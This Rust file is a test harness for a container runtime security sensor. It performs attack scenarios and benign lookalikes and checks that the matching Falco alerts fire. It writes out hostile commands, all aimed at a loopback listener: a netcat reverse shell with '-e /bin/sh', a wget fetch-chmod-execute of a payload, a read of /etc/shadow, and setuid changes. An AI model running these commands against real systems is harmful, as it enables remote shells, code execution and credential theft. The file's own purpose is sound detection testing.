//! The attacks (and benign lookalikes) the sensor must see, performed for real.
//!
//! Each scenario runs its action, checks that it really happened (exit code, output,
//! the file in the container's upper layer, bytes received by the host listener) and
//! returns a [`Performed`] record with the Falco fields an alert for it must carry. The
//! expected rules per scenario are tabled in `docs/sensor-tests.md`.

use std::fs;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{IpAddr, Ipv4Addr, TcpListener};
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;
use std::thread::JoinHandle;
use std::time::Duration;

use super::runc::{
    Container, HarnessError, Network, Result, SHADOW, base_rootfs, io_err, run_checked,
};

/// What a scenario did, in the terms of the Falco fields an alert must carry.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Performed {
    /// Scenario name (the row of the table in `docs/sensor-tests.md`).
    pub scenario: &'static str,
    /// `container.id` (12 hex digits), or `None` when the action ran on the host.
    pub container_id: Option<String>,
    /// `proc.name` of the acting process.
    pub proc_name: String,
    /// `proc.cmdline` of the acting process (Falco: name then arguments).
    pub cmdline: String,
    /// `proc.pname`: the acting process's parent (`runc` for `runc exec`'s process).
    pub pname: String,
    /// `fd.name` of the file or connection acted on, when there is one.
    pub fd_name: Option<String>,
    /// `fd.sip` of the connection, for network scenarios.
    pub fd_sip: Option<IpAddr>,
    /// `fd.sport` of the connection, for network scenarios.
    pub fd_sport: Option<u16>,
}

impl Performed {
    fn new(
        scenario: &'static str,
        container_id: Option<String>,
        cmdline: &str,
        pname: &str,
    ) -> Self {
        Performed {
            scenario,
            container_id,
            proc_name: cmdline.split(' ').next().unwrap_or_default().to_owned(),
            cmdline: cmdline.to_owned(),
            pname: pname.to_owned(),
            fd_name: None,
            fd_sip: None,
            fd_sport: None,
        }
    }

    fn in_container(ct: &Container, scenario: &'static str, cmdline: &str, pname: &str) -> Self {
        Self::new(scenario, Some(ct.short_id().to_owned()), cmdline, pname)
    }

    /// Records a TCP connection to the host's 127.0.0.1:`port`.
    fn with_loopback_peer(mut self, port: u16) -> Self {
        self.fd_sip = Some(IpAddr::V4(Ipv4Addr::LOCALHOST));
        self.fd_sport = Some(port);
        self
    }
}

fn stdout(out: &std::process::Output) -> String {
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn expect(cond: bool, what: impl FnOnce() -> String) -> Result<()> {
    if cond {
        Ok(())
    } else {
        Err(HarnessError(what()))
    }
}

/// An interactive-looking shell: `runc exec -t` (a pty from the container's `/dev/pts`)
/// running `sh -c 'tty; read -r s </proc/$$/stat; echo "$s"'` (builtins after `tty`, so
/// the shell itself stays the process under test). Checks the shell had a terminal and a
/// non-zero `tty_nr`. Rule: *Terminal shell in container*.
pub fn terminal_shell(ct: &Container) -> Result<Performed> {
    let script = r#"tty; read -r s </proc/$$/stat; echo "$s""#;
    let out = ct.exec_tty(&["/bin/sh", "-c", script])?;
    let text = stdout(&out);
    expect(text.contains("/dev/pts/"), || {
        format!("the shell had no terminal: {text:?}")
    })?;
    // /proc/<pid>/stat: `pid (comm) state ppid pgrp session tty_nr …`.
    let tty_nr = text
        .lines()
        .find(|l| l.contains("(sh)"))
        .and_then(|l| l.rsplit_once(") ").map(|(_, rest)| rest))
        .and_then(|rest| rest.split_whitespace().nth(4))
        .and_then(|t| t.parse::<u64>().ok());
    expect(tty_nr.is_some_and(|t| t != 0), || {
        format!("the shell's tty_nr is not set: {text:?}")
    })?;
    Ok(Performed::in_container(
        ct,
        "terminal-shell",
        &format!("sh -c {script}"),
        "runc",
    ))
}

/// `cat /etc/shadow` in the container. Rule: *Read sensitive file untrusted*.
pub fn read_shadow(ct: &Container) -> Result<Performed> {
    let out = ct.exec_ok(&["cat", "/etc/shadow"])?;
    expect(stdout(&out) == SHADOW, || {
        format!("read {:?}", stdout(&out))
    })?;
    let mut p = Performed::in_container(ct, "read-shadow", "cat /etc/shadow", "runc");
    p.fd_name = Some("/etc/shadow".into());
    Ok(p)
}

/// `echo … | tee /etc/moat-sensorct.conf` in the container; the file must appear in the
/// container's upper layer. Rule: *Write below etc* (sandbox ruleset).
pub fn write_below_etc(ct: &Container) -> Result<Performed> {
    ct.exec_ok(&[
        "sh",
        "-c",
        "echo moat-sensorct | tee /etc/moat-sensorct.conf",
    ])?;
    let landed = ct.upper().join("etc/moat-sensorct.conf");
    let text = fs::read_to_string(&landed).map_err(io_err(format!("read {}", landed.display())))?;
    expect(text == "moat-sensorct\n", || {
        format!("{} holds {text:?}", landed.display())
    })?;
    let mut p = Performed::in_container(ct, "write-below-etc", "tee /etc/moat-sensorct.conf", "sh");
    p.fd_name = Some("/etc/moat-sensorct.conf".into());
    Ok(p)
}

/// A TCP listener on the host's 127.0.0.1, port chosen by the kernel.
fn bind_loopback() -> Result<(TcpListener, u16)> {
    let listener =
        TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).map_err(io_err("bind 127.0.0.1:0"))?;
    let port = listener
        .local_addr()
        .map_err(io_err("listener address"))?
        .port();
    Ok((listener, port))
}

/// A TCP listener on the host's 127.0.0.1 serving one connection on a thread.
pub struct HostListener {
    /// The listening port.
    pub port: u16,
    handle: JoinHandle<std::io::Result<Vec<u8>>>,
}

impl HostListener {
    /// Listens on 127.0.0.1 (port chosen by the kernel); the one connection it accepts is
    /// sent `reply`, then read until the peer closes (at most 10 s).
    pub fn start(reply: &'static [u8]) -> Result<Self> {
        let (listener, port) = bind_loopback()?;
        let handle = std::thread::spawn(move || {
            let (mut conn, _) = listener.accept()?;
            conn.set_read_timeout(Some(Duration::from_secs(10)))?;
            conn.write_all(reply)?;
            let mut got = Vec::new();
            conn.read_to_end(&mut got)?;
            Ok(got)
        });
        Ok(HostListener { port, handle })
    }

    /// What the peer sent.
    pub fn received(self) -> Result<Vec<u8>> {
        self.handle
            .join()
            .map_err(|_| HarnessError("listener thread panicked".into()))?
            .map_err(io_err("listener"))
    }
}

fn require_host_network(ct: &Container, scenario: &str) -> Result<()> {
    expect(ct.network() == Network::Host, || {
        format!("{scenario} needs a container on the host network")
    })
}

/// `nc 127.0.0.1 PORT` in a host-network container sends a line to a listener on the
/// host. No default rule fires (Falco's `outbound` macro excludes 127.0.0.0/8); it is the
/// connect event the sensor must attribute (`fd.sip`, `fd.sport`).
pub fn connect_localhost(ct: &Container) -> Result<Performed> {
    require_host_network(ct, "connect-localhost")?;
    let listener = HostListener::start(b"")?;
    let port = listener.port;
    ct.exec_ok(&[
        "sh",
        "-c",
        &format!("echo moat-hello | nc -w 5 127.0.0.1 {port}"),
    ])?;
    let got = listener.received()?;
    expect(got == b"moat-hello\n", || format!("listener got {got:?}"))?;
    let cmdline = format!("nc -w 5 127.0.0.1 {port}");
    Ok(Performed::in_container(ct, "connect-localhost", &cmdline, "sh").with_loopback_peer(port))
}

/// Reverse shell: `nc 127.0.0.1 PORT -e /bin/sh` in a host-network container; the host
/// listener sends a command and must receive its output. Rules: *Netcat Remote Code
/// Execution in Container* (the exec) and *Redirect STDOUT/STDIN to Network Connection
/// in Container* (busybox `nc` dup2s the socket onto 0, 1 and 2).
pub fn reverse_shell(ct: &Container) -> Result<Performed> {
    require_host_network(ct, "reverse-shell")?;
    let listener = HostListener::start(b"echo moat-reverse-shell\nexit\n")?;
    let port = listener.port;
    ct.exec_ok(&["nc", "127.0.0.1", &port.to_string(), "-e", "/bin/sh"])?;
    let got = listener.received()?;
    expect(got == b"moat-reverse-shell\n", || {
        format!("listener got {got:?}")
    })?;
    let cmdline = format!("nc 127.0.0.1 {port} -e /bin/sh");
    Ok(Performed::in_container(ct, "reverse-shell", &cmdline, "runc").with_loopback_peer(port))
}

/// `ptrace-attach` (static helper in the base image) attaches to a sibling `sleep` started
/// by the same shell. Rule: *PTRACE attached to process*.
pub fn ptrace_sibling(ct: &Container) -> Result<Performed> {
    let out = ct.exec_ok(&[
        "sh",
        "-c",
        "sleep 30 & p=$!; ptrace-attach $p; r=$?; kill $p; exit $r",
    ])?;
    let text = stdout(&out);
    let target = text
        .strip_prefix("attached ")
        .map(str::trim)
        .ok_or_else(|| HarnessError(format!("ptrace-attach printed {text:?}")))?;
    let cmdline = format!("ptrace-attach {target}");
    Ok(Performed::in_container(
        ct,
        "ptrace-sibling",
        &cmdline,
        "sh",
    ))
}

/// `chmod u+s,g+s` on a file the container creates; the upper layer's copy must carry
/// both bits. Rule: *Set Setuid or Setgid bit* (incubating ruleset).
pub fn chmod_setuid(ct: &Container) -> Result<Performed> {
    ct.exec_ok(&[
        "sh",
        "-c",
        "touch /tmp/moat-suid && chmod u+s,g+s /tmp/moat-suid && test -u /tmp/moat-suid",
    ])?;
    let landed = ct.upper().join("tmp/moat-suid");
    let mode = fs::metadata(&landed)
        .map_err(io_err(format!("stat {}", landed.display())))?
        .permissions()
        .mode();
    expect(mode & 0o6000 == 0o6000, || {
        format!("{} has mode {mode:o}", landed.display())
    })?;
    let mut p = Performed::in_container(ct, "chmod-setuid", "chmod u+s,g+s /tmp/moat-suid", "sh");
    p.fd_name = Some("/tmp/moat-suid".into());
    Ok(p)
}

/// A one-request HTTP server on the host's 127.0.0.1 serving `body`.
fn serve_once(body: Vec<u8>) -> Result<(u16, JoinHandle<std::io::Result<String>>)> {
    let (listener, port) = bind_loopback()?;
    let handle = std::thread::spawn(move || {
        let (conn, _) = listener.accept()?;
        conn.set_read_timeout(Some(Duration::from_secs(10)))?;
        let mut reader = BufReader::new(conn.try_clone()?);
        let mut request_line = String::new();
        reader.read_line(&mut request_line)?;
        loop {
            let mut header = String::new();
            if reader.read_line(&mut header)? == 0 || header.trim().is_empty() {
                break;
            }
        }
        let mut conn = conn;
        write!(
            conn,
            "HTTP/1.0 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
            body.len()
        )?;
        conn.write_all(&body)?;
        Ok(request_line)
    });
    Ok((port, handle))
}

/// Download and execute: `wget` fetches a static binary from an HTTP server on the host's
/// 127.0.0.1 into `/tmp/payload` (the container's upper layer), `chmod +x`, then runs it.
/// Rule: *Drop and execute new binary in container* (`proc.is_exe_upper_layer`, which
/// needs the overlay root these containers have).
pub fn download_and_exec(ct: &Container) -> Result<Performed> {
    require_host_network(ct, "download-and-exec")?;
    let payload = base_rootfs()?.join("usr/local/bin/payload");
    let body = fs::read(&payload).map_err(io_err(format!("read {}", payload.display())))?;
    let (port, server) = serve_once(body.clone())?;
    let out = ct.exec_ok(&[
        "sh",
        "-c",
        &format!(
            "wget -q -O /tmp/payload http://127.0.0.1:{port}/payload && chmod +x /tmp/payload && /tmp/payload && test -x /tmp/payload"
        ),
    ])?;
    let request = server
        .join()
        .map_err(|_| HarnessError("HTTP server thread panicked".into()))?
        .map_err(io_err("HTTP server"))?;
    expect(request.starts_with("GET /payload "), || {
        format!("request line {request:?}")
    })?;
    expect(stdout(&out) == "moat-payload ran\nparent=sh\n", || {
        format!("payload printed {:?}", stdout(&out))
    })?;
    let landed = ct.upper().join("tmp/payload");
    let written = fs::read(&landed).map_err(io_err(format!("read {}", landed.display())))?;
    expect(written == body, || {
        format!("{} differs from the payload", landed.display())
    })?;
    let mut p = Performed::in_container(ct, "download-and-exec", "payload", "sh");
    p.fd_name = Some("/tmp/payload".into());
    Ok(p)
}

/// Benign lookalikes inside a container: the same kinds of action on allowed paths, or
/// without what makes them suspicious. None of the rules above may fire for them.
pub fn benign_in_container(ct: &Container) -> Result<Vec<Performed>> {
    let mut done = Vec::new();
    // A shell without a terminal (proc.tty = 0).
    let out = ct.exec(&["sh", "-c", "tty"])?;
    expect(stdout(&out).trim() == "not a tty", || {
        format!("tty printed {:?}", stdout(&out))
    })?;
    done.push(Performed::in_container(
        ct,
        "benign-shell-no-tty",
        "sh -c tty",
        "runc",
    ));
    // A non-sensitive file below /etc.
    let out = ct.exec_ok(&["cat", "/etc/passwd"])?;
    expect(stdout(&out).starts_with("root:x:0:0:"), || {
        "odd /etc/passwd".into()
    })?;
    let mut p = Performed::in_container(ct, "benign-read-passwd", "cat /etc/passwd", "runc");
    p.fd_name = Some("/etc/passwd".into());
    done.push(p);
    // Writing below /tmp, chmod without setuid/setgid, running a base-image binary.
    ct.exec_ok(&[
        "sh",
        "-c",
        "echo x | tee /tmp/moat-benign && chmod 0755 /tmp/moat-benign && /usr/local/bin/payload && test -x /tmp/moat-benign",
    ])?;
    let mode = fs::metadata(ct.upper().join("tmp/moat-benign"))
        .map_err(io_err("stat /tmp/moat-benign"))?
        .permissions()
        .mode();
    expect(mode & 0o7777 == 0o755, || {
        format!("/tmp/moat-benign has mode {mode:o}")
    })?;
    for (name, cmdline) in [
        ("benign-write-tmp", "tee /tmp/moat-benign"),
        ("benign-chmod-exec-bit", "chmod 0755 /tmp/moat-benign"),
        ("benign-exec-base-image", "payload"),
    ] {
        done.push(Performed::in_container(ct, name, cmdline, "sh"));
    }
    Ok(done)
}

/// Benign lookalikes on the host, outside any container, for the rules that require
/// `container`: a terminal shell, a netcat reverse shell, running a freshly written
/// binary. The busybox applets run from the base root filesystem (the host may lack them).
pub fn benign_on_host(scratch: &Path) -> Result<Vec<Performed>> {
    let base = base_rootfs()?;
    let mut done = Vec::new();
    let on_host =
        |scenario, cmdline: &str, pname: &str| Performed::new(scenario, None, cmdline, pname);
    // Terminal shell on the host.
    let sh = base.join("bin/sh");
    let command = format!("{} -c tty", sh.display());
    let out = run_checked(
        Command::new("script").args(["-q", "-e", "-c", &command, "/dev/null"]),
        "script sh -c tty",
    )?;
    expect(stdout(&out).contains("/dev/pts/"), || {
        format!("host shell tty {:?}", stdout(&out))
    })?;
    done.push(on_host("host-terminal-shell", "sh -c tty", "script"));
    // Netcat reverse shell on the host.
    let listener = HostListener::start(b"echo moat-host-shell\nexit\n")?;
    let port = listener.port;
    run_checked(
        Command::new(base.join("bin/nc"))
            .args(["127.0.0.1", &port.to_string(), "-e"])
            .arg(&sh),
        "host nc -e",
    )?;
    let got = listener.received()?;
    expect(got == b"moat-host-shell\n", || {
        format!("host listener got {got:?}")
    })?;
    let test_comm = fs::read_to_string("/proc/self/comm").unwrap_or_default();
    done.push(
        on_host(
            "host-reverse-shell",
            &format!("nc 127.0.0.1 {port} -e {}", sh.display()),
            test_comm.trim_end(),
        )
        .with_loopback_peer(port),
    );
    // Write a binary, then run it.
    let dropped = scratch.join("payload");
    fs::copy(base.join("usr/local/bin/payload"), &dropped)
        .map_err(io_err(format!("copy payload to {}", dropped.display())))?;
    let out = run_fresh_binary(&dropped)?;
    let text = stdout(&out);
    let parent = text
        .lines()
        .find_map(|l| l.strip_prefix("parent="))
        .unwrap_or_default();
    expect(text.starts_with("moat-payload ran\n"), || {
        format!("host payload printed {text:?}")
    })?;
    done.push(on_host("host-download-and-exec", "payload", parent));
    Ok(done)
}

/// Runs a binary just written by this (multi-threaded) process. A `fork` on another test
/// thread while the file was open for writing leaves a copy of the write descriptor in that
/// child until it execs, and `execve` then fails with `ETXTBSY`: retry briefly.
fn run_fresh_binary(path: &Path) -> Result<std::process::Output> {
    let mut attempts = 0;
    loop {
        match run_checked(&mut Command::new(path), "host payload") {
            Err(e) if e.0.contains("os error 26") && attempts < 50 => {
                attempts += 1;
                std::thread::sleep(Duration::from_millis(20));
            }
            other => return other,
        }
    }
}
